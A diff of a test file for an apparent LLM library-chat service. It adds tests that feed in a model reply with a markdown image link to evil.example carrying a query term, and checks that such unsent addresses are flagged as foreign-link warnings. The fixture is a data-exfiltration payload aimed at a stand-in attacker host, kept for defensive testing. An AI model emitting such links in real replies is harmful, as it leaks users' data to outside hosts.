@@ -1,6 +1,6 @@
 /** Conversations over a library: what the model is given, what is cited, what is redacted on the way. */
 import { afterAll, beforeAll, describe, expect, test } from "bun:test"
-import { type Client, startTestApp, type TestApp } from "../support/app.ts"
+import { Client, startTestApp, type TestApp } from "../support/app.ts"
 import { dataOf, readEvents, textOf } from "../support/events.ts"
 import { LLAMA, type OllamaStandIn, startOllama } from "../support/ollama.ts"
 
@@ -65,6 +65,42 @@ test("passages reach the model under their numbers, and citations come back boun
     code: "invalid_citation",
     message: expect.stringContaining("[99]"),
   })
+})
+
+test("an address that the model was not given is warned of, in the stream, the stored reply, set B and /v1", async () => {
+  const given = "https://example.org/given"
+  ollama.server.scenes.add("links", { text: `[a](${given}) ![](https://evil.example/?q=Larkspur)` })
+  const message = `case-links What does the Larkspur widget weigh? See ${given}.`
+  const warning = {
+    code: "foreign_link",
+    message: expect.stringContaining("https://evil.example/?q=Larkspur"),
+    addresses: ["https://evil.example/?q=Larkspur"],
+  }
+  const events = await stream("/conversations", { model: MODEL, message })
+  expect(dataOf(events, "warning")).toEqual(warning)
+  expect(events.findIndex(({ event }) => event === "warning")).toBe(events.length - 3) // message_completed, done
+  const id = dataOf(events, "conversation_created").conversation_id
+  const { body } = await api.get(`/conversations/${id}`)
+  expect(body.messages.at(-1).warnings).toEqual([warning])
+  const door = new Client(() => app.url, api.key, "")
+  const answer = await door.post("/v1/chat/completions", {
+    model: MODEL,
+    messages: [{ role: "user", content: message }],
+  })
+  expect(answer.body.carrel.warnings).toEqual([warning])
+})
+
+test("an address of an earlier reply is no address that was given", async () => {
+  ollama.server.scenes.add("again", { text: "https://evil.example/again" })
+  const first = await stream("/conversations", { model: MODEL, message: "case-again What does the widget weigh?" })
+  const path = `/conversations/${dataOf(first, "conversation_created").conversation_id}`
+  const second = await stream(path, { message: "case-again And once more, the widget?" })
+  expect(
+    got("again")
+      .at(-1)
+      .messages.map(({ role }: { role: string }) => role),
+  ).toContain("assistant")
+  expect(dataOf(second, "warning")).toMatchObject({ addresses: ["https://evil.example/again"] })
 })
 
 test.each([
@@ -142,6 +178,7 @@ test("a follow-up is searched with its subject", async () => {
     model: MODEL,
     message: "case-follow What were the costs of the Tromsø branch in 2022?",
     context_id: "sheets",
+    reading: "passages",
   })
   const id = dataOf(first, "conversation_created").conversation_id
   const events = await stream(`/conversations/${id}`, { message: "and in 2023?" })
